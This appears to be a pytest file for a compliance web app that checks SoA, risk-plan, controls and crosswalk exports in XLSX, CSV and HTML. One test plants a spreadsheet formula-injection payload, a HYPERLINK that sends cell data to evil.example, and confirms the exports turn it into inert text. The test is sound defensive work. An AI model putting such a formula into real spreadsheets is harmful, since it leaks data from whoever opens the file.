"""What auditors ask for first, downloaded from the web (issue 17): the SoA, the risk
treatment plan, the controls list and the crosswalk matrix, each read back with openpyxl
or csv, each the same rows the page and the CLI show."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.web.conftest import WebWorkspace

DANAS = "NW-AC-04"  # Password policy


def _workbook(content: bytes) -> object:
    return load_workbook(io.BytesIO(content), read_only=True)


def _rows(content: bytes, sheet: str | None = None) -> list[tuple[object, ...]]:
    book = load_workbook(io.BytesIO(content), read_only=True)
    chosen = book[sheet] if sheet else book.worksheets[0]
    return [tuple(row) for row in chosen.iter_rows(values_only=True)]


def test_an_auditor_downloads_the_soa_as_xlsx_and_html(web: WebWorkspace) -> None:
    auditor = web.client("auditor")
    answer = auditor.http.get("/soa/report.xlsx")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert 'filename="soa-v' in answer.headers["content-disposition"]
    soa = auditor.http.get("/api/soa").json()
    refs = {row["ref"] for row in soa["entries"]}
    cells = {str(c) for row in _rows(answer.content) for c in row if c is not None}
    assert len(refs) == 93 and refs <= cells
    page = auditor.http.get("/soa/report.html")
    assert page.status_code == 200 and "A.5.15" in page.text
    assert "Download XLSX" in auditor.http.get("/soa").text


def test_the_treatment_plan_downloads_with_every_risk(web: WebWorkspace) -> None:
    auditor = web.client("auditor")
    answer = auditor.http.get("/risks/treatment-plan.xlsx")
    assert answer.status_code == 200
    risks = {r["risk_id"] for r in auditor.http.get("/api/risks").json()["risks"]}
    book = load_workbook(io.BytesIO(answer.content), read_only=True)
    assert {"Treatment plan", "Method"} <= set(book.sheetnames)
    cells = {str(c) for row in _rows(answer.content, "Treatment plan") for c in row if c}
    assert risks and risks <= cells
    assert auditor.http.get("/risks/treatment-plan.html").status_code == 200


def test_the_controls_list_downloads_with_its_filters(web: WebWorkspace) -> None:
    editor = web.client("editor")
    listed = editor.http.get("/api/controls?per_page=500").json()
    everything = list(csv.DictReader(io.StringIO(editor.http.get("/controls/export.csv").text)))
    assert len(everything) == listed["matched"] > 50  # every control, not one page
    owner = everything[0]["owner"]
    mine = editor.http.get("/controls/export.csv", params={"owner": owner}).text
    kept = list(csv.DictReader(io.StringIO(mine)))
    assert kept and {row["owner"] for row in kept} == {owner} and len(kept) < len(everything)
    sheet = _rows(editor.http.get("/controls/export.xlsx").content)
    assert sheet[0][0] == "id" and len(sheet) == len(everything) + 1


def test_a_title_that_would_run_as_a_formula_stays_text_in_every_download(
    web: WebWorkspace,
) -> None:
    editor = web.client("editor")
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    changed = editor.http.patch(
        f"/api/controls/{DANAS}", json={"title": formula}, headers=editor.headers()
    )
    assert changed.status_code == 200, changed.text
    rows = csv.DictReader(io.StringIO(editor.http.get("/controls/export.csv").text))
    assert next(r for r in rows if r["id"] == DANAS)["title"] == "'" + formula
    book = load_workbook(io.BytesIO(editor.http.get("/controls/export.xlsx").content))
    cell = next(row[1] for row in book.worksheets[0].iter_rows() if row[0].value == DANAS)
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix


def test_the_crosswalk_matrix_downloads_as_xlsx(web: WebWorkspace) -> None:
    auditor = web.client("auditor")
    answer = auditor.http.get("/matrix/export.xlsx")
    assert answer.status_code == 200
    rows = _rows(answer.content)
    assert rows[0][:3] == ("soc2-tsc-2017", "title", "iso27001-2022")
    assert any(row[0] == "CC6.1" and row[2] == "A.5.15" for row in rows)
    other = _rows(auditor.http.get("/matrix/export.xlsx?source=nist-csf-2.0").content)
    assert other[0][0] == "nist-csf-2.0"
